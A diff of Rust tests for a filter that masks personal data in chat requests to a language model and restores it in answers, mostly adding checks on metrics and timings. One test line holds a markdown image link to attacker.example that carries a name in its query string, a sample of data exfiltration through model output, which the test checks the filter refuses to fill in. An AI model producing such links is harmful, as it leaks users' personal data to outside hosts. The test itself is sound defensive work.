@@ -133,6 +133,12 @@ fn refusals_answer_json_and_forward_nothing() {
         assert!(!replies[0].1.contains("Mario"));
         assert_eq!(*host.request_body.borrow(), body, "body untouched");
         assert!(ex.replied());
+        // Counted under its cause, and under no other.
+        for listed in metrics::REFUSALS {
+            let expected = i64::from(listed.error_type() == error_type);
+            let name = metrics::refused_name(listed);
+            assert_eq!(host.metric(&name), expected, "{error_type}: {name}");
+        }
         // The local reply passes through our own response callbacks untouched.
         host.set_response(
             &[("content-type", "application/json")],
@@ -232,7 +238,7 @@ fn new_values_pause_for_one_callout_then_resume_masked() {
         sent.contains("elena.fontana@gmail.com") && !sent.contains(NEW_MAIL),
         "{sent}"
     );
-    assert_eq!(host.metric(metrics::CALLOUTS), 1);
+    assert_eq!(host.metric(metrics::ENTRIES_CALLOUTS), 1);
     assert_eq!(host.metric(metrics::NEW_VALUES), 1);
     // A callout answer for another token changes nothing.
     ex.on_callout(&host, 999, &entries_answer(1));
@@ -265,8 +271,11 @@ fn failure_modes_reject_or_redact() {
             .contains("latet_entries_unavailable"));
         assert_eq!(host.resumed.get(), 0);
         assert_eq!(*host.request_body.borrow(), body);
-        assert_eq!(host.metric(metrics::FAIL_REJECT), 1);
-        assert_eq!(host.metric(metrics::CALLOUT_FAILURES), 1);
+        assert_eq!(
+            host.metric(&metrics::refused_name(Refusal::EntriesUnavailable)),
+            1
+        );
+        assert_eq!(host.metric(metrics::ENTRIES_CALLOUT_FAILURES), 1);
 
         // redact: placeholder, forwarded.
         let host = ready_host();
@@ -286,7 +295,7 @@ fn failure_modes_reject_or_redact() {
             "{sent}"
         );
         assert!(sent.contains("Laura Bianchi"));
-        assert_eq!(host.metric(metrics::FAIL_REDACT), 1);
+        assert_eq!(host.metric(metrics::REQUESTS_REDACTED), 1);
     }
     // A callout that cannot even be dispatched takes the failure mode at once.
     let host = ready_host();
@@ -553,7 +562,7 @@ fn a_stale_feed_leaves_surrogates_and_says_so() {
     );
     assert_eq!(host.response_body.borrow().as_slice(), answer);
     assert_eq!(host.metric(metrics::RESTORE_STALE), 1);
-    assert!(host.metric(metrics::FEED_AGE_MS) > 30_000);
+    assert_eq!(host.metric(metrics::FEED_AGE_SECONDS), 30);
 }
 
 #[test]
@@ -963,4 +972,84 @@ fn a_url_split_across_stream_events_keeps_its_value_out() {
         "Hi Mario Rossi, see ![x](https://attacker.example/p.png?u=Laura Bianchi) ok"
     );
     assert_eq!(host.metric(metrics::RESTORE_DECLINED_URL), 1);
+}
+
+#[test]
+fn masking_is_timed_once_per_forwarded_request() {
+    let host = ready_host();
+    // Each clock read moves 5 µs: a timed step is one step.
+    host.envoy.clock_step_us.set(5);
+    let mut ex = Exchange::new(worker_with(&host, ""));
+    assert_eq!(
+        send(&host, &mut ex, CHAT, &chat("Mario Rossi")),
+        Flow::Continue
+    );
+    // Headers then body, each timed once.
+    assert_eq!(host.samples(metrics::MASK_DURATION), vec![10]);
+    // Headers only (no body): timed and recorded at once.
+    let mut ex = Exchange::new(worker_with(&host, ""));
+    host.set_request(CHAT, b"");
+    assert_eq!(ex.on_request_headers(&host, true), Flow::Continue);
+    assert_eq!(host.samples(metrics::MASK_DURATION), vec![10, 5]);
+    // A refused request is not a masking sample.
+    let mut ex = Exchange::new(worker_with(&host, ""));
+    send(&host, &mut ex, CHAT, b"{not json");
+    assert_eq!(host.samples(metrics::MASK_DURATION), vec![10, 5]);
+}
+
+#[test]
+fn the_entries_callout_is_timed_from_dispatch_to_answer() {
+    let host = ready_host();
+    let mut ex = Exchange::new(worker_with(&host, ""));
+    let body = chat(&format!("mail {NEW_MAIL}"));
+    assert_eq!(send(&host, &mut ex, CHAT, &body), Flow::Pause);
+    host.advance(42);
+    let token = host.last_callout().unwrap().token;
+    let answer = CalloutAnswer {
+        status: 503,
+        body: vec![],
+    };
+    ex.on_callout(&host, token, &answer);
+    assert_eq!(
+        host.samples(metrics::ENTRIES_CALLOUT_DURATION),
+        vec![42_000]
+    );
+    // An answer to another token is not this exchange's callout.
+    ex.on_callout(&host, token + 1, &answer);
+    assert_eq!(host.samples(metrics::ENTRIES_CALLOUT_DURATION).len(), 1);
+}
+
+#[test]
+fn restoring_is_timed_once_per_answer_over_its_chunks() {
+    let host = ready_host();
+    let mut ex = Exchange::new(worker_with(&host, ""));
+    send(&host, &mut ex, CHAT, &chat("Mario Rossi"));
+    host.envoy.clock_step_us.set(3);
+    host.set_response(&[("content-type", "text/event-stream")], b"");
+    assert_eq!(ex.on_response_headers(&host, false), Flow::Continue);
+    let events = [
+        "data: {\"choices\":[{\"delta\":{\"content\":\"Laura \"}}]}\n\n",
+        "data: {\"choices\":[{\"delta\":{\"content\":\"Bianchi\"}}]}\n\n",
+        "data: [DONE]\n\n",
+    ];
+    for (i, event) in events.iter().enumerate() {
+        *host.response_body.borrow_mut() = event.as_bytes().to_vec();
+        let last = i == events.len() - 1;
+        ex.on_response_body(&host, event.len(), last);
+        let recorded = host.samples(metrics::RESTORE_DURATION);
+        assert_eq!(recorded, if last { vec![9] } else { vec![] }, "chunk {i}");
+    }
+    assert_eq!(host.metric(metrics::RESTORED), 1);
+}
+
+#[test]
+fn a_catch_up_that_reads_something_new_is_timed() {
+    let host = ready_host();
+    let worker = worker_with(&host, "");
+    host.envoy.clock_step_us.set(7);
+    worker.catch_up(&host);
+    assert_eq!(host.samples(metrics::CATCH_UP_DURATION), vec![7]);
+    // Nothing new published: the cheap check, not timed.
+    worker.catch_up(&host);
+    assert_eq!(host.samples(metrics::CATCH_UP_DURATION), vec![7]);
 }
